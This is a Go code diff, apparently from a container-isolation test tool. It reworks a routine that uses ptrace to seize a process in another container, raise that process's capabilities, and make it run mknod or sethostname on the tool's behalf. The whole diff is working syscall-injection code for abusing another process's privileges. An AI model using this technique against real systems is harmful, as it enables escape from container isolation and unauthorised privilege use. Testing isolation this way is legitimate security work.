@@ -17,15 +17,24 @@ import (
 // injectMknod attaches to a process of another container in its pid namespace and
 // lets it make a device node: mknod(2) takes CAP_MKNOD.
 func injectMknod(args []string) error {
-	runtime.LockOSThread()
 	pid, err := otherProcess()
 	if err != nil {
 		return err
 	}
+	runtime.LockOSThread()
 	fmt.Println("CapEff", statusField(pid, "CapEff"), "CapPrm", statusField(pid, "CapPrm"))
 	if err := unix.PtraceSeize(pid); err != nil {
 		return fmt.Errorf("ptrace: %w", err)
 	}
+	return injectSeized(pid, args[0])
+}
+
+// injectedName is the host name that a traced process is made to set, which takes
+// CAP_SYS_ADMIN.
+const injectedName = "attacked"
+
+// injectSeized lets a process that this thread is attached to make a device node.
+func injectSeized(pid int, name string) error {
 	if err := unix.PtraceInterrupt(pid); err != nil {
 		return err
 	}
@@ -37,16 +46,12 @@ func injectMknod(args []string) error {
 	if err != nil {
 		return err
 	}
-	if _, err := unix.PtracePokeData(pid, memory, append([]byte(args[0]), 0)); err != nil {
+	if _, err := unix.PtracePokeData(pid, memory, append([]byte(name), 0)); err != nil {
 		return err
 	}
 	// Raise what is permitted first, as a process may for itself.
 	caps := memory + 64
 	header := []byte{0x22, 0x05, 0x08, 0x20, 0, 0, 0, 0}
-	var regs unix.PtraceRegs
-	if err := unix.PtraceGetRegs(pid, &regs); err != nil {
-		return err
-	}
 	permitted, _ := strconv.ParseUint(statusField(pid, "CapPrm"), 16, 64)
 	data := header
 	for _, shift := range []int{0, 32} {
@@ -58,35 +63,54 @@ func injectMknod(args []string) error {
 	if _, err := unix.PtracePokeData(pid, caps, data); err != nil {
 		return err
 	}
-	fmt.Println("capset:", injectCall(pid, regs, unix.SYS_CAPSET, uint64(caps), uint64(caps+8), 0))
-	fmt.Println("mknod:", injectCall(pid, regs, unix.SYS_MKNOD, uint64(memory), unix.S_IFCHR|0o666, unix.Mkdev(1, 3)))
-	_ = unix.PtraceSetRegs(pid, &regs)
-	return unix.PtraceDetach(pid)
+	fmt.Println("capset:", injectCall(pid, unix.SYS_CAPSET, uint64(caps), uint64(caps+8), 0))
+	err = injectCall(pid, unix.SYS_MKNOD, uint64(memory), unix.S_IFCHR|0o666, unix.Mkdev(1, 3))
+	fmt.Println("mknod:", err)
+	if err != nil { // CAP_SYS_ADMIN may be there all the same
+		_, _ = unix.PtracePokeData(pid, memory, []byte(injectedName))
+		fmt.Println("sethostname:", injectCall(pid, unix.SYS_SETHOSTNAME, uint64(memory), uint64(len(injectedName)), 0))
+	}
+	_ = unix.PtraceDetach(pid)
+	return err
 }
 
-// injectCall lets a stopped process, which waits in a system call, make another one.
-func injectCall(pid int, regs unix.PtraceRegs, number, a, b, c uint64) error {
-	const size = 2 // of the instruction syscall, right before where it will go on
-	regs.Rip -= size
-	regs.Orig_rax = ^uint64(0)
-	regs.Rax, regs.Rdi, regs.Rsi, regs.Rdx = number, a, b, c
-	if err := unix.PtraceSetRegs(pid, &regs); err != nil {
-		return err
+// injectCall lets a stopped process make another system call in place of its next.
+func injectCall(pid int, number, a, b, c uint64) error {
+	const entering = -int64(unix.ENOSYS) // the result, before the call is made
+	for range 10 {
+		if err := unix.PtraceSyscall(pid, 0); err != nil {
+			return err
+		}
+		var ws unix.WaitStatus
+		if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil || !ws.Stopped() {
+			return fmt.Errorf("it has ended: %w", err)
+		}
+		var regs unix.PtraceRegs
+		if err := unix.PtraceGetRegs(pid, &regs); err != nil {
+			return err
+		}
+		if int64(regs.Rax) != entering {
+			continue
+		}
+		regs.Orig_rax, regs.Rdi, regs.Rsi, regs.Rdx = number, a, b, c
+		if err := unix.PtraceSetRegs(pid, &regs); err != nil {
+			return err
+		}
+		if err := unix.PtraceSyscall(pid, 0); err != nil {
+			return err
+		}
+		if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
+			return err
+		}
+		if err := unix.PtraceGetRegs(pid, &regs); err != nil {
+			return err
+		}
+		if n := int64(regs.Rax); n < 0 {
+			return unix.Errno(-n)
+		}
+		return nil
 	}
-	if err := unix.PtraceSingleStep(pid); err != nil {
-		return err
-	}
-	var ws unix.WaitStatus
-	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
-		return err
-	}
-	if err := unix.PtraceGetRegs(pid, &regs); err != nil {
-		return err
-	}
-	if n := int64(regs.Rax); n < 0 {
-		return unix.Errno(-n)
-	}
-	return nil
+	return fmt.Errorf("it makes no system calls")
 }
 
 // otherProcess is a process in the pid namespace that neither is this one nor the
